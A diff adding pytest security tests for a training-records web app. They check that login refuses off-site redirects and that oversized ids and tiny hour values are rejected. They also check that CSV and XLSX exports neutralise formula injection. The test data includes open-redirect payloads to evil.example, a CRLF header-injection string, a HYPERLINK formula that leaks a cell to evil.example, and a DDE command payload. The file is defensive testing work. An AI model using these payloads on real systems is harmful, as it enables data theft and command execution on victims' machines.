@@ -1,0 +1,189 @@
+"""What an attacker or a fuzzer tries: redirects off-site, numbers no id can have, figures too
+small to book, sheet titles and formulas in exports."""
+
+from __future__ import annotations
+
+import csv
+import io
+
+import pytest
+from openpyxl import load_workbook
+
+from tests.integration.conftest import PASSWORD, assert_error
+from tests.integration.test_archive_api import approved_record
+
+BIG = 2**63  # past every integer column: a 500 if it reached the database
+
+
+def login(client, username: str, next_: str | None = None):
+    query = {"next": next_} if next_ is not None else {}
+    return client.post(
+        "/login", query_string=query, data={"username": username, "password": PASSWORD}
+    )
+
+
+@pytest.mark.parametrize(
+    "target",
+    [
+        "/\t/evil.example/",  # browsers drop the tab: //evil.example/
+        "/\n/evil.example/",
+        "/\r\nSet-Cookie: x=1",
+        "//evil.example/",
+        "/\\evil.example/",
+        "\\\\evil.example/",
+        "https://evil.example/",
+        "javascript:alert(1)",
+        "evil.example",
+        "/ /evil.example/",
+    ],
+)
+def test_login_never_redirects_off_site(client, make_user, target):
+    make_user("ann")
+    response = login(client, "ann", target)
+    assert response.status_code == 302
+    assert response.headers["Location"] == "/"
+
+
+def test_login_follows_a_path_on_the_site(client, make_user):
+    make_user("ann")
+    response = login(client, "ann", "/archive?from=2026-01&to=2026-03")
+    assert response.headers["Location"] == "/archive?from=2026-01&to=2026-03"
+
+
+@pytest.mark.parametrize(
+    "path",
+    [
+        f"/api/v1/trainings/{BIG}",
+        f"/api/v1/records/{BIG}/evidence/1",
+        f"/api/v1/reports/units/{BIG}",
+        f"/api/v1/users/{2**31}",
+        f"/api/v1/exams/{BIG}/attempts",
+    ],
+)
+def test_an_id_no_row_can_have_is_404_in_api_paths(client, admin, path):
+    assert_error(client.get(path, headers=admin), 404, "not_found")
+
+
+@pytest.mark.parametrize(
+    "query",
+    [
+        f"users?unit_id={BIG}",
+        f"users?offset={BIG}",
+        f"audit?offset={BIG}",
+        f"archive?user_id={BIG}",
+    ],
+)
+def test_an_id_no_row_can_have_is_400_in_api_queries(client, admin, query):
+    assert_error(client.get(f"/api/v1/{query}", headers=admin), 400, "bad_payload")
+
+
+@pytest.mark.parametrize(
+    "body", [{"parent_id": BIG, "name": "x"}, {"parent_id": 2**31, "name": "x"}]
+)
+def test_an_id_no_row_can_have_is_400_in_api_bodies(client, admin, body):
+    assert_error(client.post("/api/v1/units", json=body, headers=admin), 400, "bad_payload")
+
+
+@pytest.mark.parametrize(
+    "path",
+    [
+        f"/trainings/{BIG}",
+        f"/archive?user_id={BIG}",
+        f"/archive/export.csv?user_id={BIG}",
+        f"/admin/reports?unit_id={BIG}",
+        f"/admin/users?unit_id={BIG}",
+        f"/admin/evaluations?target_id={BIG}",
+    ],
+)
+def test_an_id_no_row_can_have_is_404_on_pages(client, make_user, path):
+    make_user("root", role="admin")
+    login(client, "root")
+    assert client.get(path).status_code == 404
+
+
+@pytest.mark.parametrize("query", [f"page={BIG}", "page=-1", f"year={BIG}"])
+def test_page_numbers_and_years_out_of_range_are_ignored(client, make_user, query):
+    make_user("root", role="admin")
+    login(client, "root")
+    assert client.get(f"/admin/users?{query}").status_code == 200
+    assert client.get(f"/admin/audit?{query}").status_code == 200
+
+
+def test_an_admin_opens_another_users_archive_page(client, make_user):
+    make_user("root", role="admin")
+    ann = make_user("ann")
+    login(client, "root")
+    page = client.get(f"/archive?user_id={ann}")
+    assert page.status_code == 200
+    assert "(ann)" in page.text
+    assert f"user_id={ann}" in page.text  # the exports keep whose archive it is
+
+
+def record(**changes):
+    return {
+        "kind": "self_study",
+        "title": "Reading",
+        "start_date": "2026-03-01",
+        "end_date": "2026-03-02",
+        "hours": 2,
+        **changes,
+    }
+
+
+@pytest.mark.parametrize("hours", [1e-7, 1e-9, 5e-324, 0.00009])
+def test_hours_too_small_to_book_are_refused(client, admin, learner, hours):
+    assert_error(
+        client.post("/api/v1/records", json=record(hours=hours), headers=learner),
+        400,
+        "bad_payload",
+    )
+    created = client.post("/api/v1/records", json=record(), headers=learner).json
+    review = client.post(
+        f"/api/v1/records/{created['id']}/review",
+        json={"decision": "approve", "hours": hours},
+        headers=admin,
+    )
+    assert_error(review, 400, "bad_payload")
+    assert client.get(f"/api/v1/records/{created['id']}", headers=admin).json["status"] == "pending"
+
+
+def test_the_smallest_hours_shown_are_booked(client, admin, learner):
+    created = client.post("/api/v1/records", json=record(hours=0.0001), headers=learner)
+    assert created.status_code == 201, created.json
+    assert created.json["hours"] == 0.0001
+
+
+UNIT = "R&D/QA [east]: *what?* \\ and a name longer than a sheet title may be"
+
+
+def test_report_xlsx_of_a_unit_whose_name_has_sheet_title_characters(client, admin, make_user):
+    unit = client.post("/api/v1/units", json={"name": UNIT}, headers=admin).json
+    make_user("ann", unit=UNIT)
+    login(client, "root")
+    response = client.get(f"/admin/reports/export.xlsx?unit_id={unit['id']}&year=2026")
+    assert response.status_code == 200
+    book = load_workbook(io.BytesIO(response.data))
+    (title,) = book.sheetnames
+    assert len(title) <= 31
+    assert not set(title) & set("[]:*?/\\")
+    assert title.startswith("R&D_QA _east__ ")
+    assert [row[0] for row in book.active.iter_rows(values_only=True)][1:] == ["ann"]
+
+
+FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Certificate")'
+
+
+@pytest.mark.parametrize("title", [FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)"])
+def test_exports_never_hold_a_live_formula(client, admin, learner, title):
+    approved_record(client, learner, admin, "self_study", 2, "2026-03-02", title=title)
+    ann = client.get("/api/v1/me", headers=learner).json["id"]
+    login(client, "root")
+    query = f"?from=2026-01&to=2026-12&user_id={ann}"
+    text = client.get("/archive/export.csv" + query).data.decode("utf-8-sig")
+    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+    assert "'" + title in cells
+    assert title not in cells
+    book = load_workbook(io.BytesIO(client.get("/archive/export.xlsx" + query).data))
+    (cell,) = [c for row in book.worksheets[1].iter_rows() for c in row if c.value == title]
+    assert cell.data_type == "s"  # text, not a formula
+    assert cell.quotePrefix
